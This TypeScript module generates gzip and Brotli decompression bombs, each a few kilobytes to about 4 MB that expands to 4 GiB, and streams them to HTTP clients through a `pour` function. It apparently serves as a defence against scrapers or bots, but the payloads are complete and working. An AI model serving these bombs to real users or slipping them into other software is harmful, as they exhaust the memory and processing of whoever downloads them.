import type { ServerResponse } from 'node:http';
import { constants, createBrotliCompress, gzipSync } from 'node:zlib';

const MEBIBYTE = 1024 * 1024;

/** Four megabytes of gzip that unpack to 4 GiB of spaces: 64 members of 64 MiB. */
export function gzipBomb(): Buffer[] {
	return Array.from<Buffer>({ length: 64 }).fill(gzipSync(Buffer.alloc(64 * MEBIBYTE, 32)));
}

/** A few kilobytes of Brotli that unpack to 4 GiB of spaces: 16 MiB, then “as before” 255 times. */
export async function brotliBomb(): Promise<Buffer[]> {
	const packer = createBrotliCompress({ params: { [constants.BROTLI_PARAM_QUALITY]: 5 } });
	const next = () =>
		new Promise<Buffer>((done) => {
			packer.write(Buffer.alloc(16 * MEBIBYTE, 32));
			packer.flush(() => {
				done((packer.read() as Buffer | null) ?? Buffer.alloc(0));
			});
		});
	const [first, second, third] = [await next(), await next(), await next()];
	if (!second.equals(third)) throw new Error('The Brotli packer does not repeat itself; make the bomb another way.');
	return [first, ...Array.from<Buffer>({ length: 255 }).fill(second)];
}

/** Writes pieces for as long as the client reads. */
export function pour(response: ServerResponse, pieces: Iterable<Buffer>): void {
	const rest = pieces[Symbol.iterator]();
	const fill = () => {
		for (let piece = rest.next(); !piece.done; piece = rest.next()) {
			if (response.destroyed) return;
			if (!response.write(piece.value)) {
				response.once('drain', fill);
				return;
			}
		}
		response.end();
	};
	fill();
}
